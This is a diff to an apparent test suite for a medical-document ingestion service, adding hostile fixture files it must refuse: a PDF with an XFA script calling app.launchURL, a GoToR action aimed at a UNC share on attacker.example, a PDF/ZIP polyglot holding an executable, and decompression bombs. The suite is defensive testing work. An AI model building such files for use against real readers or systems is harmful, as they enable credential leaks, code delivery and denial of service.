@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import json
 import random
+import struct
 import subprocess
 import sys
 import xml.etree.ElementTree as ET
@@ -60,6 +61,15 @@ EXPECTED = {
     "cda_other_patient.xml": ("rejected", "patient_mismatch"),
     "cda_bad_ins.xml": ("rejected", "invalid_ins"),
     "cda_good.xml": ("indexed", ""),
+    "repeated_open_action.pdf": ("rejected", "pdf_ambiguous"),
+    "repeated_contents_bomb.pdf": ("rejected", "pdf_ambiguous"),
+    "xfa_script.pdf": ("rejected", "pdf_active_content"),
+    "gotor_unc.pdf": ("rejected", "pdf_active_content"),
+    "polyglot_exe.pdf": ("rejected", "pdf_active_content"),
+    "huge.png": ("rejected", "image_too_large"),
+    "missing_objects.pdf": ("indexed", ""),
+    "object_stream_flood.pdf": ("rejected", "pdf_too_large"),
+    "cda_loinc_as_snomed.xml": ("indexed", ""),
     "not_cda.xml": ("rejected", "unsupported_type"),
     "pdf_header_zip.pdf": ("rejected", "pdf_corrupt"),
     "html_as.pdf": ("rejected", "type_mismatch"),
@@ -93,6 +103,13 @@ MIME = {
             "flate_bomb.pdf",
             "many_pages.pdf",
             "pdf_header_zip.pdf",  # the polyglot: libmagic reads the header
+            "repeated_open_action.pdf",
+            "repeated_contents_bomb.pdf",
+            "xfa_script.pdf",
+            "gotor_unc.pdf",
+            "polyglot_exe.pdf",
+            "missing_objects.pdf",
+            "object_stream_flood.pdf",
             "future_date.pdf",
             "bad_nir.pdf",
         ],
@@ -107,6 +124,7 @@ MIME = {
             "cda_bad_ins.xml",
             "cda_good.xml",
             "not_cda.xml",
+            "cda_loinc_as_snomed.xml",
         ],
         XML,
     ),
@@ -114,6 +132,7 @@ MIME = {
     "zip_bomb.zip": {"application/zip"},
     "html_as.pdf": {"text/html"},
     "image.png": {"image/png"},
+    "huge.png": {"image/png"},
     "photo.jpg": {"image/jpeg"},
     "scan.tiff": {"image/tiff"},
     "note.txt": {"text/plain"},
@@ -416,3 +435,54 @@ def test_non_utf8_manifest_batch(tmp_path: Path) -> None:
     assert "Compte rendu opératoire" in text
     assert text.splitlines()[0] == ",".join(MANIFEST_COLUMNS)
     assert (out / "good.pdf").read_bytes() == good_pdf_bytes()
+
+
+# --- let in before, refused now (and the two that must stay in) ---------------------------------
+
+
+def test_repeated_keys_are_in_the_raw_bytes(built: Built) -> None:
+    assert built.path("repeated_open_action.pdf").read_bytes().count(b"/OpenAction") == 2
+    assert "/JavaScript" not in str(_pdf(built, "repeated_open_action.pdf").trailer["/Root"]["/OpenAction"])  # pypdf keeps the first
+    bomb = built.path("repeated_contents_bomb.pdf")
+    assert bomb.read_bytes().count(b"/Contents") == 2 and bomb.stat().st_size < 2 * MIB
+
+
+def test_xfa_template_holds_a_script(built: Built) -> None:
+    xfa = _pdf(built, "xfa_script.pdf").trailer["/Root"]["/AcroForm"]["/XFA"]
+    assert xfa[0] == "template"
+    assert b'<script contentType="application/x-javascript">app.launchURL(' in xfa[1].get_object().get_data()
+
+
+def test_gotor_names_a_unc_path(built: Built) -> None:
+    action = _pdf(built, "gotor_unc.pdf").trailer["/Root"]["/OpenAction"]
+    assert action["/S"] == "/GoToR" and action["/F"] == "\\\\attacker.example\\share\\cr.pdf"
+
+
+def test_polyglot_is_a_pdf_and_a_zip_with_an_executable(built: Built) -> None:
+    assert len(_pdf(built, "polyglot_exe.pdf").pages) == 1
+    with zipfile.ZipFile(built.path("polyglot_exe.pdf")) as archive:
+        assert archive.read("setup.exe").startswith(b"MZ")
+
+
+def test_huge_png_announces_400_million_pixels_in_a_small_file(built: Built) -> None:
+    data = built.path("huge.png").read_bytes()
+    assert len(data) < 200 * 1024
+    assert data[12:16] == b"IHDR" and struct.unpack(">II", data[16:24]) == (corpus.HUGE_PNG_SIDE, corpus.HUGE_PNG_SIDE)
+    assert zlib.crc32(data[12:29]) == struct.unpack(">I", data[29:33])[0]
+
+
+def test_missing_objects_are_cited_but_never_defined(built: Built) -> None:
+    data = built.path("missing_objects.pdf").read_bytes()
+    assert data.count(b" 0 R") > corpus.MISSING_OBJECTS and data.count(b" 0 obj") == 6
+
+
+def test_object_stream_flood_is_tiny_and_inflates(built: Built) -> None:
+    path = built.path("object_stream_flood.pdf")
+    assert path.stat().st_size < 8 * 1024
+    extra = _pdf(built, "object_stream_flood.pdf").trailer["/Root"]["/Extra"]
+    assert [len(array.get_object()) for array in extra] == [corpus.FLOOD_LENGTH] * corpus.FLOOD_ARRAYS
+
+
+def test_cda_loinc_code_under_the_snomed_oid(built: Built) -> None:
+    code = ET.fromstring(built.path("cda_loinc_as_snomed.xml").read_bytes()).find(f"{CDA}code")
+    assert code is not None and (code.get("code"), code.get("codeSystem")) == (DOCUMENT_TYPE, corpus.SNOMED_OID)
